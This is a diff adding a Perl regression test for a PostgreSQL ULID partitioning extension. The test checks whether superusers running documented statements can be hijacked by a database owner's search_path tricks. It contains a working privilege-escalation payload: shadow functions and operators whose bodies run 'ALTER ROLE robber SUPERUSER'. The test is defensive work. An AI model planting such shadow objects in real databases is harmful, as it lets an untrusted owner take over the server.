@@ -192,5 +192,60 @@ is($node->psql('postgres', q{
 	SELECT public.clear('pg_temp.job')}, extra_params => [ '-U', 'someone' ]), 0, 'someone has a superuser\'s function drop partitions of a temporary table');
 is($node->safe_psql('postgres', 'SELECT precious FROM public.victim'), '1', 'no other table is dropped');
 
+# The owner of a database makes functions with the names of the extension's and with text as arguments, which PostgreSQL prefers
+# for quoted arguments. A superuser who runs an owner's short statement calls them. What the documents and hints give to a superuser
+# calls none, even if the owner also sets a path for all sessions that finds doubles of PostgreSQL's own objects first.
+$node->safe_psql('postgres', 'CREATE ROLE robber LOGIN; CREATE DATABASE robbed OWNER robber');
+$node->safe_psql('robbed', 'GRANT ALL ON SCHEMA public TO robber');
+my $take = q{AS 'BEGIN RAISE WARNING $$robbed$$; ALTER ROLE robber SUPERUSER; RETURN; END' LANGUAGE plpgsql};
+is(ask($node, 'robber', qq{
+	CREATE EXTENSION ids;
+	CREATE TABLE log (id ulid PRIMARY KEY) PARTITION BY RANGE (id);
+	CREATE TABLE log_old PARTITION OF log FOR VALUES FROM (ulid_first('2020-01-01 00:00:00+00')) TO (ulid_first('2020-01-02 05:00:00+00'));
+	SET client_min_messages = error;
+	DO \$do\$
+	DECLARE o record;
+	BEGIN
+		FOR o IN SELECT DISTINCT proname, prokind, arguments
+			FROM pg_proc p JOIN pg_depend d ON d.classid = 'pg_proc'::regclass AND objid = p.oid AND deptype = 'e' JOIN pg_extension e ON e.oid = refobjid AND extname = 'ids',
+				replace(oidvectortypes(proargtypes), ', ', ',') types,
+				unnest(ARRAY[regexp_replace(types, '[^,]+', 'text', 'g'), regexp_replace(types, 'regclass|interval', 'text', 'g')]) arguments
+			WHERE prokind IN ('f', 'p') AND NOT 'internal'::regtype = ANY (proargtypes) AND NOT 'cstring'::regtype = ANY (proargtypes)
+		LOOP
+			EXECUTE format('CREATE %s public.%I(%s) %s %s', CASE o.prokind WHEN 'p' THEN 'PROCEDURE' ELSE 'FUNCTION' END, o.proname, o.arguments,
+				CASE o.prokind WHEN 'p' THEN '' ELSE 'RETURNS void' END, \$f\$$take\$f\$);
+		END LOOP;
+	END \$do\$;
+	CREATE PROCEDURE public.ids_drop_partitions(text, timestamptz) $take;
+	CREATE FUNCTION public.now() RETURNS timestamptz AS 'BEGIN RAISE WARNING \$\$robbed\$\$; RETURN clock_timestamp(); END' LANGUAGE plpgsql;
+	CREATE FUNCTION public.shift(timestamptz, interval) RETURNS timestamptz AS 'BEGIN RAISE WARNING \$\$robbed\$\$; RETURN \$1; END' LANGUAGE plpgsql;
+	CREATE OPERATOR public.+ (FUNCTION = shift, LEFTARG = timestamptz, RIGHTARG = interval);
+	CREATE OPERATOR public.- (FUNCTION = shift, LEFTARG = timestamptz, RIGHTARG = interval);
+	SELECT count(*) > 100 FROM pg_proc WHERE pronamespace = 'public'::regnamespace}, database => 'robbed'), 't', 'functions of the same names');
+sub robbed
+{
+	my ($statement, $path) = @_;
+	my $error = ($node->psql('robbed', "BEGIN; $statement; ROLLBACK", extra_params => [ '-v', 'SHOW_CONTEXT=never' ]))[2];
+	return $error =~ s/^psql:<stdin>:\d+: //gmr =~ /(robbed|ERROR.*)/ ? $1 : '';
+}
+my ($readme, $servers, $cookbook) = map { slurp_file("$ENV{TESTDIR}/$_") } 'README.md', 'doc/servers.md', 'doc/cookbook.md';
+my @short = $readme =~ /^(CALL ids_\w+\(.*?\));/mg;
+is(scalar @short, 2, 'the README has two calls');
+is(robbed($_), 'robbed', "the attack succeeds when a superuser runs an owner's $_") foreach @short;
+ask($node, 'robber', 'ALTER DATABASE robbed SET search_path = public, pg_catalog', database => 'robbed');
+is($node->safe_psql('robbed', 'SHOW search_path'), 'public, pg_catalog', 'the path of a superuser');
+is(robbed('SELECT now()'), 'robbed', 'a double of a function of PostgreSQL');
+my $gap = ($node->psql('robbed', "CALL pg_catalog.ids_create_partitions('public.log', '1 day', '2020-01-02 00:00:00+00', '2020-01-03 00:00:00+00')"))[2];
+my $time = ($node->psql('robbed', "SELECT '2026-11-01'::pg_catalog.ulid"))[2];
+my $uuid = ($node->psql('robbed', "SELECT '015549f0-1d7e-3a66-a08c-07ce13d25363'::pg_catalog.ulid"))[2];
+my @given = (
+	$servers =~ /cron\.schedule\('.*?', '.*?', \$\$(.*?)\$\$\)/sg,
+	$cookbook =~ /^## Monitoring\n+```sql\n(.*?);\n```/ms,
+	$gap =~ /HINT: .*? (CREATE .*);/,
+	(map { "SELECT $_" } $time =~ /time is (.*)\.$/m, $uuid =~ /cast it: (.*)\.$/m));
+is(scalar @given, 6, 'statements for a superuser');
+is(robbed($_), '', "a superuser runs $_") foreach @given;
+is($node->safe_psql('robbed', q{SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = 'robber'}), 'f', 'the owner of the database has gained nothing');
+
 $node->stop;
 done_testing();
